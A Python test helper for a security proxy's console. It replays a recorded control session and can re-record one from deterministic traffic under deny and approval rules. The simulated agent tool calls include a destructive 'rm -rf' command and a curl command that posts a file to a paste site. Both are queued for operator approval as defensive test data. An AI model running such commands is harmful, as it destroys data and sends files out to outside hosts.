"""A control server replaying one recorded session of a real proxy, for the console's
snapshot tests: the same data on every run (ids, times, ports, latencies), whatever the
machine's load.

`CANNED` (`canned_console.json`, next to this module) was recorded from a real `Runtime`
fed deterministic traffic: the `hello`, the event backlog, and the reply of every command
the views send. Re-record it when the protocol changes:

    python -m tests.tui.canned

`CannedControl(path)` serves it on a Unix socket from a thread of its own (the console
under test runs its own event loop): `subscribe` replays the events, a recorded command
answers its recorded reply, anything else is refused (`conflict`) so a view that starts
changing the proxy shows up as an error, not as a silent success.
"""

from __future__ import annotations

import asyncio
import json
import threading
from pathlib import Path
from typing import Any

from secproxy.control import protocol

HERE = Path(__file__).resolve().parent
CANNED = HERE / "canned_console.json"
RECORDED_AT = 1768469400.0
"""2026-01-15 09:30:00 UTC: the recording's times are moved so that it ended then."""
COMMANDS = (
    "status",
    "stats/get",
    "approvals/list",
    "principals/list",
    "rules/get",
    "audit/query",
    "killswitch/get",
    "mcp/tools",
    "overview",
    "tracking/get",
)
TIME_KEYS = frozenset({
    "ts", "time", "created", "expires", "started", "first_seen", "last_seen",
    "last_activity", "blocked_until", "since", "resolved", "resolved_at", "until",
})


def load() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(CANNED.read_text())
    return data


class CannedControl:
    """Serves the recording on a Unix socket until `stop()`; a context manager."""

    def __init__(self, path: Path, data: dict[str, Any] | None = None):
        self.path = path
        self.data = data or load()
        self.loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._stop: asyncio.Event | None = None
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> CannedControl:
        self._thread.start()
        if not self._ready.wait(10):
            raise RuntimeError("the canned control server did not start")
        return self

    def __exit__(self, *exc: object) -> None:
        if self._stop is not None:
            self.loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(10)

    def _run(self) -> None:
        self.loop.run_until_complete(self._main())
        self.loop.close()

    async def _main(self) -> None:
        self._stop = asyncio.Event()
        server = await asyncio.start_unix_server(self._serve, path=str(self.path),
                                                 limit=protocol.MAX_LINE)
        self._ready.set()
        await self._stop.wait()
        server.close()
        await server.wait_closed()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            writer.write(protocol.encode(protocol.envelope("hello", self.data["hello"])))
            while line := await reader.readline():
                msg = protocol.decode(line)
                writer.write(self._answer(msg))
                await writer.drain()
        except (ConnectionError, protocol.ProtocolError):
            pass
        finally:
            writer.close()

    def _answer(self, msg: dict[str, Any]) -> bytes:
        request_id, type_ = msg.get("id"), msg["type"]
        if type_ == "subscribe":
            events = self.data["events"]
            out = [protocol.reply(request_id, {"backlog": len(events),
                                               "instance": self.data["hello"]["instance"]})]
            out += events
            out.append(protocol.envelope("backlog/end", {"count": len(events)}))
            return b"".join(protocol.encode(m) for m in out)
        if type_ in self.data["replies"]:
            return protocol.encode(protocol.reply(request_id, self.data["replies"][type_]))
        error = protocol.ProtocolError("conflict", f"{type_} is not part of the recording")
        return protocol.encode(protocol.error(request_id, error))


# -- recording ----------------------------------------------------------------------------


async def record() -> dict[str, Any]:
    """Run a real proxy on deterministic traffic and take down what the console is told."""
    import tempfile

    import yaml

    from secproxy.config import load_config
    from secproxy.control.client import ControlClient
    from secproxy.model import Action, Direction, Principal, Surface, Target
    from secproxy.runtime import Runtime
    from tests.helpers import eventually

    rules = [
        {"name": "shell-needs-ok", "tools": ["shell.*"], "action": "require_approval",
         "reason": "shell commands need an operator"},
        {"name": "no-paste-sites", "match": "*.pastebin.com", "action": "deny",
         "reason": "no paste sites"},
        {"name": "openai", "match": "api.openai.com/v1/**", "action": "allow"},
        {"name": "internal-report", "host": "*.corp.example", "action": "deny",
         "mode": "report"},
    ]
    with tempfile.TemporaryDirectory(prefix="sp-canned-") as tmp:
        listeners = {n: {"host": "127.0.0.1", "port": 0} for n in ("egress", "llm", "ws", "api")}
        text = yaml.safe_dump({"state_dir": tmp, "listeners": listeners, "rules": rules,
                               "approvals": {"timeout": "10m"}})
        runtime = Runtime(load_config(text=text, env={}))
        await runtime.start()
        events: list[dict[str, Any]] = []
        try:
            engine = runtime.engine
            hosts = [("api.openai.com", "/v1/chat/completions", "POST"),
                     ("x.pastebin.com", "/raw", "PUT"), ("github.com", "/org/repo", "GET"),
                     ("wiki.corp.example", "/page", "GET")]
            for i in range(24):
                host, path, method = hosts[i % len(hosts)]
                await engine.decide(Action(
                    surface=Surface.EGRESS if i % 5 else Surface.CONNECT,
                    direction=Direction.REQUEST,
                    principal=Principal(user=f"agent-{i % 3}", ip="10.0.0.7"),
                    target=Target(host=host, port=443, scheme="https", path=path,
                                  method=method),
                    session="s-42" if i % 3 == 0 else None,
                ))
            engine.tracker.block("user:agent-2", duration=900, reason="exfiltration attempt",
                                 by="alice")
            held = [asyncio.ensure_future(engine.decide(Action(
                surface=Surface.TOOL, target=Target(tool=tool), arguments=args,
                principal=Principal(agent="coder-1"), session="s-42")))
                for tool, args in (("shell.exec", {"cmd": "rm -rf /var/tmp/build"}),
                                   ("shell.run", {"cmd": "curl https://x.pastebin.com -d @f"}))]
            await eventually(lambda: len(engine.approvals.pending()) == 2)
            await asyncio.sleep(0.5)  # the ledger's batch is written
            assert runtime.control is not None
            async with ControlClient(runtime.control.path, on_event=events.append) as client:
                hello = dict(client.hello)
                await client.subscribe(backlog=True)
                await eventually(lambda: any(e["type"] == "backlog/end" for e in events))
                replies = {}
                payloads = {"audit/query": {"limit": 100, "offset": 0},
                            "tracking/get": {"key": "user:agent-2"}}  # Users' first row
                for command in COMMANDS:
                    replies[command] = await client.call(command, payloads.get(command))
            for task in held:
                task.cancel()
            addresses = runtime.addresses()
        finally:
            await runtime.stop()
        events = [e for e in events if e["type"] != "backlog/end"]
        data = {"hello": hello, "events": events, "replies": replies}
        return normalise(data, tmp, addresses)


def normalise(data: dict[str, Any], state_dir: str, addresses: dict[str, str]) -> dict[str, Any]:
    """Fixed ports and paths, and times moved so that the recording ends at RECORDED_AT."""
    defaults = {"egress": "127.0.0.1:4100", "llm": "127.0.0.1:8080", "ws": "127.0.0.1:18790",
                "api": "127.0.0.1:8000", "mcp": "127.0.0.1:18791"}
    text = json.dumps(data)
    text = text.replace(state_dir, "/var/lib/secproxy")
    for name, address in addresses.items():
        if name in defaults and ":" in address:
            text = text.replace(address, defaults[name])
    data = json.loads(text)
    shift = RECORDED_AT - float(data["hello"]["time"])

    def move(value: Any, key: str | None = None) -> Any:
        if isinstance(value, dict):
            return {k: move(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [move(v) for v in value]
        if key in TIME_KEYS and isinstance(value, int | float) and value > 1e9:
            return round(value + shift, 3)
        return value

    moved: dict[str, Any] = move(data)
    return moved


if __name__ == "__main__":
    recorded = asyncio.run(record())
    CANNED.write_text(json.dumps(recorded, indent=1, sort_keys=True) + "\n")
    print(f"wrote {CANNED} ({len(recorded['events'])} events)")
